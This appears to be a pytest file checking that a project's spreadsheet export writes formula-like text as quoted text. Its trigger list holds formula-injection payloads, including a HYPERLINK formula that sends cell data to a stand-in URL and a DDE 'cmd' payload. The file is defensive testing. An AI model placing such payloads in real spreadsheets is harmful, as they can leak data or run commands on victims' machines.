"""Cells the project writes are values: text that a spreadsheet would run as a formula stays text."""

from __future__ import annotations

import io
from datetime import date, datetime
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from danhgia.apps.spreadsheets.cells import value_row
from danhgia.apps.spreadsheets.workbook import ALL, template_workbook

TRIGGERS = ['=HYPERLINK("http://x"&A1,"y")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def written(values: list[Any], *, write_only: bool) -> list[tuple[Any, str, bool]]:
    """(value, data type, quote prefix) of each cell after a save and a load."""
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("x")
    sheet.append(value_row(sheet, values))
    buffer = io.BytesIO()
    book.save(buffer)
    cells = next(load_workbook(io.BytesIO(buffer.getvalue()))["x"].iter_rows())
    return [(cell.value, cell.data_type, cell.quotePrefix) for cell in cells]


@pytest.mark.parametrize("write_only", [True, False])
def test_text_that_looks_like_a_formula_is_written_as_text_with_the_quote_prefix(write_only: bool) -> None:
    assert written(TRIGGERS, write_only=write_only) == [(text, "s", True) for text in TRIGGERS]


def test_other_values_keep_their_type_and_plain_text_no_prefix() -> None:
    assert written(["Chi bộ Văn phòng", None, "#N/A", 12, 66.7, date(2025, 1, 2)], write_only=True) == [
        ("Chi bộ Văn phòng", "s", False),
        (None, "n", False),
        ("#N/A", "s", False),  # openpyxl would have made an error cell of it
        (12, "n", False),
        (66.7, "n", False),
        (datetime(2025, 1, 2), "d", False),
    ]


def test_characters_xml_cannot_hold_are_replaced_not_a_crash() -> None:
    assert written(["Lê\x07Văn\x00A"], write_only=True) == [("Lê\ufffdVăn\ufffdA", "s", False)]


def test_the_templates_hold_no_formula() -> None:
    book = load_workbook(io.BytesIO(template_workbook(ALL)))

    types = {cell.data_type for sheet in book.worksheets for row in sheet.iter_rows() for cell in row}

    assert "f" not in types and "s" in types
